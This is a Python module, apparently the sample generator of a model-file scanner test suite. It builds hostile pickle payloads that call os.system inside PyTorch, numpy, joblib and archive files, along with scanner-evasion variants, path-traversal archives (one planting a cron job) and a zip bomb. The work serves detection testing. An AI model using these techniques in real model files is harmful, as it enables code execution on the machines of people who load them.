"""Hostile samples built on pickles: raw pickles, PyTorch, numpy, joblib and archives."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
import zlib
from collections import OrderedDict
from collections.abc import Iterator
from typing import Any

from modelcustoms.samples import libs, libs_torch
from modelcustoms.samples.hostile_pickles import CMD, PICKLE_TECHNIQUES, REFERENCES
from modelcustoms.samples.items import Item, Plan, one
from modelcustoms.samples.pickle_fake import Reduced, dumps, glob
from modelcustoms.samples.sevenz import build_7z
from modelcustoms.samples.torchfile import (
    corrupt_torch_zip,
    for_joblib,
    joblib_dump,
    npy_object,
    npz,
    torch_save_legacy,
    torch_zip_members,
)
from modelcustoms.samples.zipwriter import Entry, build_zip, simple_zip

NVD = "https://nvd.nist.gov/vuln/detail/"
_NAMES = ["model.pkl", "weights.pickle", "state.pkl", "clf.pkl", "data.pkl"]


def payload(protocol: int = 2) -> bytes:
    """The plain ``os.system("echo pwned")`` pickle."""
    return PICKLE_TECHNIQUES["pickle.os-system"](protocol)


def pickles(plan: Plan) -> Iterator[Item]:
    """Every pickle technique; in full scale each over several protocols."""
    for tech, build in PICKLE_TECHNIQUES.items():
        protocols = plan.rng.sample(range(6), plan.n(1, 3))
        if tech in ("pickle.os-system", "pickle.posix-system") and plan.full:
            protocols = list(range(6))
        for p in protocols:
            name = plan.rng.choice(_NAMES)
            yield one(name, build(p), "hostile", tech, "pickle", REFERENCES.get(tech))


def misleading_names(plan: Plan) -> Iterator[Item]:
    """Pickles under names scanners skip (CVE-2025-1889, CVE-2025-10155)."""
    names = ["pytorch_model.bin", "model.pt", "notes.txt", "preview.png", "weights"]
    for name in names[: plan.n(2, 5)]:
        ref = NVD + ("CVE-2025-10155" if name.endswith((".bin", ".pt")) else "CVE-2025-1889")
        yield one(
            name,
            payload(plan.rng.choice([2, 4])),
            "hostile",
            "pickle.misleading-extension",
            "pickle",
            ref,
        )


def _poisoned_state_dict(plan: Plan) -> tuple[Any, libs_torch.TorchTensors]:
    tt = libs_torch.TorchTensors(plan.rng)
    sd = libs_torch.state_dict(tt, libs_torch.mlp_layers(plan.rng, 2))
    hook = Reduced(glob("os", "system"), (CMD,))
    obj: Any = sd
    if plan.rng.random() < 0.5:
        obj = {"model": sd, "epoch": 3, "extra": hook}
    else:
        sd["_hook"] = hook
    return obj, tt


def torch_members(plan: Plan) -> OrderedDict[str, bytes]:
    """Members of a torch zip whose data.pkl carries a payload next to real tensors."""
    obj, tt = _poisoned_state_dict(plan)
    data = dumps(obj, 2, torch_storages=True)
    return OrderedDict(torch_zip_members(data, tt, plan.rng))


def torch_zips(plan: Plan) -> Iterator[Item]:
    """PyTorch zip checkpoints: payload in data.pkl, and zip-level evasions."""
    for _ in range(plan.n(1, 3)):
        m = torch_members(plan)
        yield one(
            "pytorch_model.bin",
            corrupt_torch_zip(m),
            "hostile",
            "torch.payload-data-pkl",
            "pytorch-zip",
        )
    for _ in range(plan.n(0, 2)):
        tt = libs_torch.TorchTensors(plan.rng)
        sd = libs_torch.state_dict(tt, libs_torch.mlp_layers(plan.rng, 2))
        m = OrderedDict(torch_zip_members(dumps(sd, 2, torch_storages=True), tt, plan.rng))
        m["archive/extra/hook.pkl"] = payload()
        yield one(
            "model.pt", corrupt_torch_zip(m), "hostile", "torch.payload-extra-member", "pytorch-zip"
        )
    tweaks: list[tuple[str, dict[str, Any], str | None]] = [
        ("torch.name-mismatch", {"name": "archive/notes.txt"}, None),
        ("torch.encrypted-flag", {"flags": 0x0809}, NVD + "CVE-2025-1945"),
        ("torch.bad-crc", {"crc": 0xDEADBEEF}, NVD + "CVE-2025-10156"),
    ]
    for tech, tweak, ref in tweaks:
        for _ in range(plan.n(1, 2)):
            m = torch_members(plan)
            yield one(
                "model.pt",
                corrupt_torch_zip(m, **{"archive/data.pkl": tweak}),
                "hostile",
                tech,
                "pytorch-zip",
                ref,
            )
    for _ in range(plan.n(0, 2)):
        m = torch_members(plan)
        junk = b"\x7fELF" + bytes(plan.rng.randrange(256) for _ in range(200))
        yield one(
            "model.pt",
            corrupt_torch_zip(m, __prefix__=junk),
            "hostile",
            "torch.prefixed-junk",
            "pytorch-zip",
        )
    for order in range(plan.n(1, 2)):
        tt = libs_torch.TorchTensors(plan.rng)
        sd = libs_torch.state_dict(tt, libs_torch.mlp_layers(plan.rng, 1))
        clean = dumps(sd, 2, torch_storages=True)
        clean_members = torch_zip_members(clean, tt, plan.rng)
        entries = [
            Entry(n, d, flags=0x0808, align=64, descriptor=True) for n, d in clean_members.items()
        ]
        dup = Entry("archive/data.pkl", payload(), flags=0x0808, align=64, descriptor=True)
        entries.insert(1 if order == 0 else 0, dup)
        yield one(
            "model.pt",
            build_zip(entries, zip64_end=True),
            "hostile",
            "torch.duplicate-member",
            "pytorch-zip",
        )


def torch_legacy(plan: Plan) -> Iterator[Item]:
    """The pre-zip torch stream (magic, sys_info, pickle, storages) with a payload."""
    for _ in range(plan.n(1, 3)):
        obj, tt = _poisoned_state_dict(plan)
        yield one(
            "model.pth",
            torch_save_legacy(obj, tt, plan.rng),
            "hostile",
            "torch.legacy-payload",
            "pytorch-legacy",
        )


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 1_700_000_000, 0o644
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def archives(plan: Plan) -> Iterator[Item]:
    """Payloads inside 7z, tar, gzip, bz2, xz, nested containers, traversal, bombs."""
    m = dict(torch_members(plan))
    ref = REFERENCES["pickle.broken-tail"]
    yield one("model.7z", build_7z(m), "hostile", "archive.7z-torch", "7z", ref)
    if plan.full:
        yield one(
            "model.7z",
            build_7z({"archive/data.pkl": payload()}, compress=False),
            "hostile",
            "archive.7z-torch",
            "7z",
            ref,
        )
        yield one(
            "model.tar",
            _tar({"sys_info": b"", "pickle": payload()}),
            "hostile",
            "archive.tar-pickle",
            "tar",
        )
    yield one(
        "checkpoint.tar",
        _tar({"model/data.pkl": payload(4)}),
        "hostile",
        "archive.tar-pickle",
        "tar",
    )
    yield one(
        "model.pkl.gz", gzip.compress(payload(), mtime=0), "hostile", "archive.gzip-pickle", "gzip"
    )
    for _ in range(plan.n(0, 2)):
        p = plan.rng.choice([2, 4, 5])
        yield one(
            "model.pkl.bz2", bz2.compress(payload(p)), "hostile", "archive.bz2-pickle", "bzip2"
        )
        yield one("model.pkl.xz", lzma.compress(payload(p)), "hostile", "archive.xz-pickle", "xz")
    inner = simple_zip({"model/data.pkl": payload()})
    nested = gzip.compress(_tar({"bundle/model.zip": inner}), mtime=0)
    yield one("bundle.tar.gz", nested, "hostile", "archive.nested-zip-tar-gzip", "gzip")
    trav = simple_zip({"../../../../tmp/zoo-evil.pkl": payload(), "model/config.json": b"{}"})
    yield one(
        "model.zip",
        trav,
        "hostile",
        "archive.zip-traversal",
        "zip",
        "https://security.snyk.io/research/zip-slip-vulnerability",
    )
    if plan.full:
        yield one(
            "model.tar",
            _tar({"../../etc/cron.d/zoo": b"* * * * * root echo pwned\n"}),
            "hostile",
            "archive.tar-traversal",
            "tar",
            "https://security.snyk.io/research/zip-slip-vulnerability",
        )
        yield one(
            "weights.zip",
            _bomb(),
            "hostile",
            "archive.zip-bomb",
            "zip",
            "https://www.bamsoftware.com/hacks/zipbomb/",
        )
    data = payload()
    for _ in range(12):
        data = gzip.compress(data, mtime=0)
    yield one("model.pkl.gz", data, "hostile", "archive.deep-nesting", "gzip")


def _bomb() -> bytes:
    """Nested ratio bomb: 16 zips of 16 members of 64 MiB zeros each (16 GiB unpacked)."""
    size = 64 * 1024 * 1024
    zeros = bytes(size)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = co.compress(zeros) + co.flush()
    crc = zlib.crc32(zeros)
    entries = [
        Entry(f"layer_{i:02d}.bin", b"", packed=packed, size=size, crc=crc) for i in range(16)
    ]
    inner = build_zip(entries)
    return build_zip([Entry(f"shard_{i:02d}.zip", inner) for i in range(16)])


def numpy_joblib(plan: Plan) -> Iterator[Item]:
    """Object-dtype .npy/.npz and joblib dumps carrying payloads."""
    for _ in range(plan.n(1, 3)):
        yield one(
            "array.npy",
            npy_object((3,), payload(3)),
            "hostile",
            "numpy.npy-object-pickle",
            "numpy-npy",
            "https://nvd.nist.gov/vuln/detail/CVE-2019-6446",
        )
    for _ in range(plan.n(1, 2)):
        arrays = {"labels": npy_object((2,), payload(3))}
        yield one(
            "data.npz",
            npz(arrays, compressed=plan.rng.random() < 0.5),
            "hostile",
            "numpy.npz-object-pickle",
            "numpy-npz",
            "https://nvd.nist.gov/vuln/detail/CVE-2019-6446",
        )
    for compress in [None, "zlib", "gzip"][: plan.n(2, 3)]:
        for _ in range(plan.n(1, 2)):
            model = {
                "coef": libs.array("f8", (4,), plan.rng),
                "hook": Reduced(glob("os", "system"), (CMD,)),
            }
            tech = "joblib.payload" if compress is None else f"joblib.{compress}-payload"
            yield one(
                "model.joblib",
                joblib_dump(for_joblib(model), compress),
                "hostile",
                tech,
                "pickle" if compress is None else compress,
            )


FAMILIES = (pickles, misleading_names, torch_zips, torch_legacy, archives, numpy_joblib)
